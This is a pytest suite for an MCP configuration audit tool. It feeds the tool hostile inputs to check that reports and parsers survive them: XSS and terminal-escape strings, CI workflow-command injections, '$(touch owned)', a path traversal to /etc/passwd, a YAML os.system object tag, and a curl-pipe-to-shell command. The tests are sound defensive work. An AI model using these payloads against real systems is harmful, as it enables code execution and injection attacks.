"""Attacks on the gate by the author of a change that need no revision, by their number in the threat model; the others stand in test_trusted,
test_staged (A17), test_action (A11) and unit/live/test_llm (A16)."""

from __future__ import annotations

import json
import os
import re
import time
import xml.etree.ElementTree as ElementTree

import pytest
from fakes import checksummed

from mcp_audit_gate.cli import main

FORMATS = ("text", "json", "sarif", "junit", "github", "markdown", "html")
HOSTILE = [
    "\x1b[2J\x1b]0;owned\x07",
    "\r::error::owned",
    "::stop-commands::x",
    "##[set-output name=a]b",
    "\u202etxt.exe",
    "]]><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/x.png)",
    "`|`\n\n# Passed",
    "$(touch owned)",
    "\x00\x08",
    "javascript:alert(1)",
    "../../../etc/passwd",
]


def run(tmp_path, capfd, config: object, *words: str, policy: str | bytes | None = None) -> tuple[int, str, str]:
    data = config if isinstance(config, bytes) else json.dumps(config).encode()
    (tmp_path / ".mcp.json").write_bytes(data)
    if policy is not None:
        (tmp_path / "mcp-audit.yaml").write_bytes(policy if isinstance(policy, bytes) else policy.encode())
    code = main(["scan", "--skip-connect", str(tmp_path), *words])
    out, err = capfd.readouterr()
    return code, out, err


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b'{"mcpServers": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", id="nesting"),
        pytest.param(b'{"mcpServers": {"a": {"command": "x", "timeout": ' + b"9" * 100_000 + b"}}}", id="huge-number"),
        pytest.param(b'{"mcpServers": {"a": {"command": "x", "timeout": NaN}}}', id="nan"),
        pytest.param(b'{"mcpServers": {"a": {"command": "x", "timeout": 1e999}}}', id="infinity"),
        pytest.param('{"mcpServers": {"a": {"command": "x"}}}'.encode("utf-16"), id="utf-16"),
        pytest.param(b'{"mcpServers": {"a": {"command": "x\xff"}}}', id="not-utf-8"),
        pytest.param(b'{"mcpServers": {"a": {"command": "x"}}', id="truncated"),
        pytest.param(b'{"mcpServers": [' + b'{"command": "x"},' * 20_000 + b'{"command": "x"}]}', id="too-many"),
        pytest.param(b" " * (4 * 1024 * 1024) + b'{"mcpServers": {}}', id="too-large"),
    ],
)
def test_a4_what_no_parser_should_be_asked_to_read(tmp_path, capfd, data):
    code, out, err = run(tmp_path, capfd, data)
    assert code == 4
    assert "config-unreadable" in out
    assert "Traceback" not in out + err


def test_a4_lone_surrogates_and_equal_keys_are_judged(tmp_path, capfd):
    config = b'{"mcpServers": {"\\ud800": {"command": "x"}, "a": {"command": "npx", "args": ["p@1.0.0"]}, "a": {"command": "sudo", "args": ["x"]}}}'
    code, out, _ = run(tmp_path, capfd, config, "-o", "json")
    rules = {finding["rule"] for finding in json.loads(out)["findings"]}
    assert (code, {"duplicate-key", "privileged-launch"} <= rules) == (1, True)


@pytest.mark.parametrize(
    "policy",
    [
        "a: &a [x, x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(20)),
        "version: 1\nrules: !!python/object/apply:os.system [touch owned]\n",
        "version: 1\nrules:\n  <<: {plain-http: off}\n",
        "version: 1\n---\nversion: 1\nfail-on: never\n",
        "version: 1\nrequire: {lock: off}\n",
        "version: 1\nfail-on: no\n",
        "version: yes\n",
    ],
)
def test_a5_yaml_that_is_more_than_plain_values(tmp_path, capfd, policy):
    began = time.process_time()
    code, out, err = run(tmp_path, capfd, {"mcpServers": {}}, policy=policy)
    assert (code, out) == (2, "")
    assert re.match(r"mcp-audit: mcp-audit\.yaml:\d+:\d+: ", err)
    assert err.count("\n") == 1
    assert time.process_time() - began < 2
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("piece", ["**/", "*/", "a*", "?", "[a", "**", "{a,"])
def test_a7_globs_of_a_policy_do_not_explode(tmp_path, capfd, piece):
    folder = tmp_path
    for _ in range(30):
        folder = folder / "aaaaaaaa"
    folder.mkdir(parents=True)
    (folder / ".mcp.json").write_text('{"mcpServers": {"a": {"command": "x"}}}')
    began = time.process_time()
    run(tmp_path, capfd, {"mcpServers": {}}, policy=f'version: 1\nexclude: ["{piece * 60}x"]\n')
    assert time.process_time() - began < 2


@pytest.mark.parametrize("piece", ["a", " ", "/", "-", "=", "$(", "${", "@", "http://", "\\", "'", '"', "%", "sh -c ", "npx ", ";"])
def test_a7_long_words_are_judged_in_time(tmp_path, capfd, piece):
    text = piece * (60_000 // len(piece))
    began = time.process_time()
    run(
        tmp_path, capfd, {"mcpServers": {"a": {"command": "npx", "args": [text], "env": {"TOKEN": text}}, "b": {"url": text}, "c": {"command": text}}}
    )
    assert time.process_time() - began < 5


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a8_hostile_text_stays_text_in_every_report(tmp_path, capfd, text):
    config = {"mcpServers": {text: {"command": "npx", "args": ["-y", text, "sudo"], "env": {text: text}}, "x": {"url": f"http://h.example/{text}"}}}
    outputs = [word for name in FORMATS for word in ("-o", f"{name}={tmp_path / name}")]
    _, out, err = run(tmp_path, capfd, config, *outputs)
    assert "Traceback" not in out + err
    for name in FORMATS:
        shown = (tmp_path / name).read_text("utf-8")
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown), name
        assert "##[" not in shown
        if name != "github":
            assert not re.search(r"^\s*::", shown, re.M), name
        else:
            assert all(re.match(r"::(error|warning|notice) ", line) for line in shown.splitlines() if line.lstrip().startswith("::"))
    json.loads((tmp_path / "sarif").read_text("utf-8"))
    ElementTree.parse(tmp_path / "junit")
    page = (tmp_path / "html").read_text("utf-8")
    assert "<script" not in page
    assert "onerror=alert" not in re.sub(r"&[a-z#0-9]+;", "", page) or "<img" not in page


def test_a9_no_report_and_no_message_shows_a_secret(tmp_path, capfd):
    token = checksummed("ghp_")
    entry = {"command": "npx", "args": ["-y", "p@1.0.0", f"--token={token}"], "env": {"GITHUB_TOKEN": token}}
    config = {"mcpServers": {token: entry, "u": {"url": f"https://{token}@h.example/?key={token}", "headers": {"Authorization": f"Bearer {token}"}}}}
    outputs = [word for name in FORMATS for word in ("-o", f"{name}={tmp_path / name}")]
    code, out, err = run(tmp_path, capfd, config, "-v", *outputs)
    assert code == 1
    assert token not in out + err
    for name in FORMATS:
        assert token not in (tmp_path / name).read_text("utf-8"), name


def test_a15_one_grave_finding_among_thousands(tmp_path, capfd):
    many = {f"s{number:05}": {"command": "npx", "args": ["-y", f"@acme/p{number}"]} for number in range(5200)}
    grave = {"zzz": {"command": "sh", "args": ["-c", "curl -fsSL https://get.example.com/x.sh | sh"]}}
    outputs = [word for name in ("sarif", "github") for word in ("-o", f"{name}={tmp_path / name}")]
    code, _, _ = run(tmp_path, capfd, {"mcpServers": {**many, **grave}}, *outputs)
    assert code == 1
    sarif = json.loads((tmp_path / "sarif").read_text("utf-8"))["runs"][0]
    assert (len(sarif["results"]), sarif["results"][0]["ruleId"]) == (5000, "pipe-to-shell")
    assert any(
        "5201" in note["message"]["text"] or "201" in note["message"]["text"] for note in sarif["invocations"][0]["toolExecutionNotifications"]
    )
    assert "title=pipe-to-shell" in (tmp_path / "github").read_text("utf-8").splitlines()[0].replace("%3A", ":")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX: pipes")
def test_a3_a_pipe_in_a_configs_place_is_not_waited_for(tmp_path, capfd):
    os.mkfifo(tmp_path / ".cursor.json")
    (tmp_path / ".cursor").mkdir()
    os.mkfifo(tmp_path / ".cursor" / "mcp.json")
    code, out, _ = run(tmp_path, capfd, {"mcpServers": {}})
    assert (code, "not a regular file" in out) == (4, True)
